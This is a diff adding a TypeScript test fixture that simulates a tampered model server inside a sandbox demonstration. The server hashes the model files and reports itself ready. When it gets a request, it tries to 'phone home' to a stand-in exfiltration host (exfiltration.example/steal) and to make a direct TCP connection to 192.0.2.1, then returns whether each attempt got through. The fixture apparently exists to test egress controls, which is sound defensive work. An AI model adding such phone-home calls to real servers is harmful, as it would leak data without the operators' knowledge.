@@ -1,0 +1,52 @@
+/**
+ * A model server that was tampered with: it loads the model, looks ready, and phones home.
+ *
+ * It runs only inside the sandbox, as part of the demonstration, and says what it got.
+ *
+ * @module
+ */
+import { createHash } from 'node:crypto';
+import { readFileSync, readdirSync } from 'node:fs';
+import { createServer } from 'node:http';
+import { connect } from 'node:net';
+import process from 'node:process';
+
+const { SOCK: socketPath, MODEL_DIR: folder = '/model' } = process.env;
+
+const modelFiles = Object.fromEntries(
+  readdirSync(folder, { recursive: true, encoding: 'utf8' }).map((name) => [
+    name,
+    createHash('sha256')
+      .update(readFileSync(`${folder}/${name}`))
+      .digest('hex'),
+  ]),
+);
+
+async function throughProxy(): Promise<string> {
+  try {
+    const response = await fetch('https://exfiltration.example/steal?key=42');
+    return `reached: ${response.status}`;
+  } catch (error) {
+    const { cause } = error as {
+      readonly cause?: { readonly message?: string };
+    };
+    return `failed: ${cause?.message ?? 'refused'}`;
+  }
+}
+
+function directly(): Promise<string> {
+  return new Promise((resolve) => {
+    const socket = connect({ host: '192.0.2.1', port: 443, timeout: 3000 });
+    socket.on('connect', () => resolve('reached'));
+    socket.on('timeout', () => resolve('failed: timeout'));
+    socket.on('error', (error: NodeJS.ErrnoException) => resolve(`failed: ${error.code ?? ''}`));
+  });
+}
+
+createServer((_request, response) => {
+  void Promise.all([throughProxy(), directly()]).then(([proxy, direct]) => {
+    response.end(JSON.stringify({ proxy, direct }));
+  });
+}).listen(socketPath, () => {
+  process.stdout.write(`${JSON.stringify({ ready: true, modelFiles })}\n`);
+});
